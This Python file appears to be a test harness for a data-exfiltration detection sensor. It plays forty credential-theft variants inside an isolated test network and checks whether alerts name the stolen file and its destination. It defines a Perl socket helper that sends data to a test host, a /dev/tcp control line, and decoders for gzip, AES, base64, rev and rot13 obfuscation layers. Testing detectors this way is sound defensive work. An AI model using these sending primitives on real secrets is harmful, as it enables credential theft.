#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Forty thefts like those of real malware and on raided build servers, ten for each family of the catalogue, written by
someone who had not read the code of the sensor. Each is played once, under the default policy: the secret must reach
the other side, and an alert must name the file and its destination; or, where one process touches more files than an
alert can name, their class, and that there are more ("A·"). The table marks a variant that is not detected, with the
alerts that were raised instead. The test fails when such a variant is detected, and when any other one is missed.

Every play has a home and a decoy of its own, so that an alert that names the decoy is about this play."""

import base64
import binascii
import codecs
import collections
import http.server
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
import play
import tap
from net import HOST_V4, THIEF_V4, Net
from tap import Failure, Skip, require
from rows.variants import VARIANTS

WEB_PORT = 8080
# What each script may use besides KEY, HOME, HOST, TOKEN (only to prepare a victim) and its own empty directory.
PRELUDE = r"""
trap 'kill $(jobs -p) 2>/dev/null' EXIT
wait_for() { local i; for ((i = 0; i < 400; i++)); do "$@" && return; sleep 0.05; done; exit 1; }
cannot() { echo "$*" >&2; exit 77; }
send() { perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("$ENV{HOST}:443") or die; print $s $_ while <STDIN>'; }
"""
# Limit of the other alerts that are shown for a play; a theft byte by byte has many.
OTHERS_SHOWN = 5
# bpf/abi/event.h: BW_FILES_MAX.
FILES_MAX = 8
CONTROL = "printf hello >/dev/tcp/$HOST/443"


class Web(http.server.BaseHTTPRequestHandler):
    """Accepts every request, and stores the data like the sink."""
    protocol_version = "HTTP/1.1"

    def take(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.sink.remember("http", self.server.server_address,
                                  self.path.encode() + b"\n" + bytes(self.headers) + body)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_PUT = take

    def log_message(self, *args):
        pass


def pull(net, port, ask):
    """The other side connects, sends a request and stores the answer."""
    deadline = time.monotonic() + harness.ALERT_TIMEOUT
    while True:
        with net.inside(net.host):
            taker = socket.socket()
        try:
            taker.connect((THIEF_V4, port))
            break
        except ConnectionRefusedError:
            taker.close()
            if time.monotonic() > deadline:
                return
            time.sleep(0.05)
    with taker:
        taker.settimeout(harness.ALERT_TIMEOUT)
        taker.sendall(ask)
        got = bytearray()
        try:
            while piece := taker.recv(65536):
                got += piece
        except OSError:
            pass
    net.sink.remember("tcp", (THIEF_V4, port), bytes(got))


def unsealed(raw):
    """Undoes gzip, AES-CTR with an all-zero key, base64, rev and rot13, which were applied in this order."""
    text = codecs.decode(raw.decode("latin-1"), "rot13")[::-1].encode("latin-1")
    for piece in re.findall(rb"[A-Za-z0-9+/]{40,}", text):
        sealed = subprocess.run(["openssl", "enc", "-d", "-aes-128-ctr", "-K", "0" * 32, "-iv", "0" * 32],
                                input=base64.b64decode(piece + b"==="), capture_output=True).stdout
        yield from inflated(sealed)


def inflated(raw):
    for at in (match.start() for match in re.finditer(b"\x1f\x8b", raw)):
        try:
            yield zlib.decompressobj(31).decompress(raw[at:])
        except zlib.error:
            pass


def unwrapped(raw):
    """Every decoding of the loot that the receiver of a thief would try."""
    yield raw
    # Names in DNS, one byte a datagram: the token is hexadecimal.
    yield re.sub(rb"[^0-9a-f]", b"", raw)
    for piece in re.findall(rb"[A-Za-z0-9+/_-]{40,}", raw):
        try:
            yield base64.b64decode(piece.lstrip(b"/") + b"===", b"-_" if re.search(b"[-_]", piece) else None)
        except binascii.Error:
            pass
    yield from inflated(raw)
    yield from unsealed(raw)


class Theatre:
    def __init__(self, bw, net, home):
        self.bw, self.net, self.home = bw, net, home
        self.caught = collections.Counter()

    def loot(self, since, scratch):
        """All data that has arrived since then, at the sink or in a file of a server on the other side."""
        pieces = b"".join(entry[3] for entry in self.net.sink.arrived[since:])
        got = os.path.join(scratch, "got")
        if os.path.exists(got):
            with open(got, "rb") as file:
                pieces += file.read()
        return pieces

    def arrived(self, token, since, scratch, stdout):
        deadline = time.monotonic() + 10 * tap.SLOW
        while True:
            with self.net.sink.changed:
                loot = self.loot(since, scratch)
            # stdout: the echo of the other side.
            if any(token in reading for reading in unwrapped(loot)) or token in stdout:
                return
            require(time.monotonic() < deadline, f"the secret has not arrived, but {loot[:300]!r}")
            with self.net.sink.changed:
                self.net.sink.changed.wait(0.05)

    def perform(self, variant, script):
        """Plays it until the secret has arrived; returns the file's path."""
        secret = self.home.secret()
        token = secret.split(b"\n")[1]
        place = os.path.join(self.home.root, b"home", variant.name.encode())
        key = os.path.join(place, variant.file.encode())
        self.home.decoy(key)
        with open(key, "wb") as out:
            out.write(variant.content.encode().replace(b"TOKEN", token) if variant.content else secret)
        scratch = os.path.join(self.home.root.decode(), "scratch", variant.name)
        os.makedirs(scratch)
        environment = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C.UTF-8", "SHELL": "/bin/bash", "KEY": key,
                       "HOME": place, "HOST": HOST_V4, "TOKEN": token, "THIEF": THIEF_V4}
        with self.net.sink.changed:
            since = len(self.net.sink.arrived)
        server = variant.host and self.net.popen(["bash", "-c", variant.host], self.net.host, cwd=scratch,
                                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        taker = variant.pull and threading.Thread(target=pull, args=(
            self.net, variant.pull[0], variant.pull[1].encode().replace(b"$KEY", key)))
        if taker:
            taker.start()
        try:
            result = self.net.run(["bash", "-c", PRELUDE + script], cwd=scratch, env=environment)
        finally:
            if taker:
                taker.join()
            if server:
                server.kill()
                server.wait()
        if result.returncode == play.CANNOT:
            raise Skip(result.stderr.strip()[-200:], environment=True)
        require(result.returncode == 0, f"status {result.returncode}\n{result.stderr[-2000:]}")
        if script != CONTROL:
            self.arrived(token, since, scratch, result.stdout.encode("utf-8", "surrogateescape"))
        return key

    def is_detected(self, variant, key):
        """Whether an alert names the file, or its crowd, and the destination; and the latest alerts of this play, of
        any kind."""
        home = harness.as_text(os.path.join(self.home.root, b"home", variant.name.encode(), b""))

        def names_it(alert):
            if not variant.crowd:
                return harness.touches(alert, key)
            files = alert["files"]
            return len(files) == FILES_MAX and alert["files_more"] and all(
                file["class"] == variant.crowd and file["path"].startswith(home) for file in files) and (
                    f"at least {FILES_MAX - 1} more files" in alert["summary"])

        def is_it(alert):
            to = alert["destination"]
            return names_it(alert) and all(
                wanted is None or to.get(name) == wanted
                for name, wanted in zip(("address", "port"), variant.to))

        try:
            self.bw.wait_alert(is_it, "the alert", play.SOON)
        except Failure:
            # Every earlier alert has come when that of the marker theft has.
            self.bw.prove_delivered(self.net, self.home)
        others = self.bw.find(lambda alert: any((entry["path"] or "").startswith(home) for entry in alert["files"]))
        return bool(self.bw.find(is_it)), [
            json.dumps({name: alert[name] for name in ("summary", "files", "destination")})[:1500]
            for alert in others[-OTHERS_SHOWN:]]

    def try_variant(self, variant):
        detected, others = self.is_detected(variant, self.perform(variant, variant.script))
        self.caught[variant.family] += detected
        if detected and variant.missed:
            raise Failure(f"it is caught, but the table says it is missed: {variant.missed}")
        if not detected and not variant.missed:
            raise Failure("missed; its alerts:\n" + "\n".join(others))

    def control(self, variant):
        """No alert names a key that no process read: the alerts that cases find are not caused by the test itself."""
        detected, others = self.is_detected(variant, self.perform(variant, CONTROL))
        require(not detected, "an alert names a file that was not read:\n" + "\n".join(others))


def end(bw):
    bw.stop()
    bw.require_no_loss(harness.preemption_losses())


def main():
    harness.require_machine()
    t = tap.Tap()
    with Net() as net, harness.Home() as home:
        with net.inside(net.host):
            web = http.server.ThreadingHTTPServer(("0.0.0.0", WEB_PORT), Web)
        web.sink = net.sink
        threading.Thread(target=web.serve_forever, daemon=True).start()
        with harness.Barbwired() as bw:
            theatre = Theatre(bw, net, home)
            t.case("control: a key that no process reads", theatre.control, VARIANTS[0]._replace(name="control"))
            for variant in VARIANTS:
                t.case(f"{variant.family} {variant.name}" + (" [missed]" if variant.missed else ""),
                       theatre.try_variant, variant)
            t.case("SIGTERM: exit 0, no loss", end, bw)
        web.shutdown()
        web.server_close()
        t.note("caught: " + ", ".join(
            f"{family} {theatre.caught[family]} of {sum(v.family == family for v in VARIANTS)}" for family in "GHES")
            + "; of these by the class, not by the name (A·): " + ", ".join(v.name for v in VARIANTS if v.crowd))
    t.done()


if __name__ == "__main__":
    main()
